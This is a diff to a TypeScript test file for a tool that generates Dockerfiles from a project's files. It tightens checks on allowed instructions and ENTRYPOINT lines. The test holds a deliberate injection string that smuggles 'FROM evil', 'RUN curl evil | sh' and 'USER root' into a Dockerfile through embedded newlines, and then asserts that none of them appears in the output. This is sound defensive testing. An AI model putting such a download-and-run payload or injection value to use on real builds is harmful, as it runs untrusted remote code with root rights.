@@ -16,7 +16,7 @@ function instructions(plan: BuildPlan): string[] {
 }
 
 const EVIL = 'x\nFROM evil\nRUN curl evil | sh\r\nUSER root'
-const KNOWN = new Set(['FROM', 'ARG', 'ENV', 'WORKDIR', 'COPY', 'RUN', 'USER', 'EXPOSE', 'STOPSIGNAL', 'CMD'])
+const KNOWN = new Set('FROM ARG ENV WORKDIR COPY RUN USER EXPOSE STOPSIGNAL ENTRYPOINT CMD'.split(' '))
 const express = {
   'package.json':
     '{"name":"a","scripts":{"start":"node index.js","build":"tsc"},"dependencies":{"express":"4"}}',
@@ -29,8 +29,11 @@ const express = {
  */
 function expectHarmless(plan: BuildPlan): void {
   for (const name of instructions(plan)) expect(KNOWN).toContain(name)
+  // That of a base image is put out of force; one that does something never stands there.
+  expect(plan.dockerfile).not.toMatch(/^\s*ENTRYPOINT (?!\[\]$)/m)
   expect(plan.dockerfile).not.toMatch(/^\s*FROM evil/m)
   expect(plan.dockerfile).not.toMatch(/^\s*USER root/m)
+  expect(plan.dockerfile).not.toMatch(/^ENTRYPOINT (?!\[\]$)/m)
   expect(plan.dockerfile).not.toMatch(/^\s*RUN curl evil/m)
   expect(plan.dockerfile).not.toMatch(/\u2028|\u2029|\u0085/)
   for (const line of plan.dockerfile.split('\n').filter((text) => text.startsWith('FROM '))) {
@@ -415,5 +418,5 @@ describe('a source tree shows nothing but files of the folder', () => {
     const tree = openTree(path)
     expect(tree.files().length).toBe(20_000)
     expect(detect(tree).stack).toBe('static')
-  })
+  }, 120_000)
 })
